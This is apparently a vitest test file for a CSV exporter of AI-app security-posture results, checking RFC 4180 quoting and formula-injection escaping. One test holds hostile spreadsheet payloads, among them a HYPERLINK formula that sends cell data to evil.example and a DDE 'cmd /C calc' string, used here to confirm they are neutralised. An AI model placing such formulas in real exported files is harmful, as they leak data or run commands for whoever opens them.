import { describe, expect, it } from "vitest";
import { postureCsv, type PostureCsvRow } from "./posture-csv";

/** A strict RFC 4180 reader: records of fields, CRLF line ends, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (ch === '"') {
      let j = i + 1;
      while (!(text[j] === '"' && text[j + 1] !== '"')) {
        if (j >= text.length) throw new Error("unterminated quote");
        j += text[j] === '"' ? 2 : 1;
      }
      field += text.slice(i + 1, j).replace(/""/g, '"');
      i = j + 1;
    } else if (ch === ",") {
      record.push(field);
      field = "";
      i++;
    } else if (text.startsWith("\r\n", i)) {
      records.push([...record, field]);
      record = [];
      field = "";
      i += 2;
    } else {
      field += ch;
      i++;
    }
  }
  if (field !== "" || record.length) throw new Error("last record has no CRLF");
  return records;
}

const row = (over: Partial<PostureCsvRow> = {}): PostureCsvRow => ({
  appName: "Support bot", criticality: "HIGH", appScore: 72.5, controlId: "LSO-SEC-02", controlTitle: "Provider keys rotated within policy",
  family: "Secrets", severity: "HIGH", status: "FAIL", evidence: "3 of 4 provider keys rotated within 90 days; key ...a1b2 is 140 days old",
  owaspLlm: ["LLM02", "LLM10"], nistAiRmf: ["MANAGE 2.4"], ...over,
});

describe("postureCsv", () => {
  it("writes a header row and one CRLF-terminated record per result", () => {
    const csv = postureCsv([row(), row({ appName: "Search", appScore: null, status: "PASS" })]);
    expect(csv.split("\r\n")).toHaveLength(4);
    expect(csv.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
    const [header, first, second] = parseCsv(csv);
    expect(header).toEqual(["app", "criticality", "app_score", "control_id", "control", "family", "severity", "status", "evidence", "owasp_llm_2025", "nist_ai_rmf"]);
    expect(first).toEqual(["Support bot", "HIGH", "72.5", "LSO-SEC-02", "Provider keys rotated within policy", "Secrets", "HIGH", "FAIL", row().evidence, "LLM02; LLM10", "MANAGE 2.4"]);
    expect(second![0]).toBe("Search");
    expect(second![2]).toBe("");
  });

  it("quotes commas, quotes and line breaks so every value reads back unchanged", () => {
    const evidence = 'Keys "prod", "staging"\r\nand\nmore';
    const [, record] = parseCsv(postureCsv([row({ appName: "Bot, v2", evidence })]));
    expect(record![0]).toBe("Bot, v2");
    expect(record![8]).toBe(evidence);
    expect(record).toHaveLength(11);
  });

  it("prefixes an apostrophe to cells a spreadsheet would run as a formula", () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"];
    const records = parseCsv(postureCsv(hostile.map((appName, i) => row({ appName, evidence: hostile[(i + 1) % hostile.length]! }))));
    records.slice(1).forEach((r, i) => {
      expect(r[0]).toBe(`'${hostile[i]}`);
      expect(r[8]).toBe(`'${hostile[(i + 1) % hostile.length]}`);
    });
  });

  it("leaves harmless text alone", () => {
    const [, record] = parseCsv(postureCsv([row({ appName: "a=b", evidence: "1 - 2" })]));
    expect(record![0]).toBe("a=b");
    expect(record![8]).toBe("1 - 2");
  });

  it("writes only the header when there are no results", () => {
    expect(parseCsv(postureCsv([]))).toHaveLength(1);
  });
});
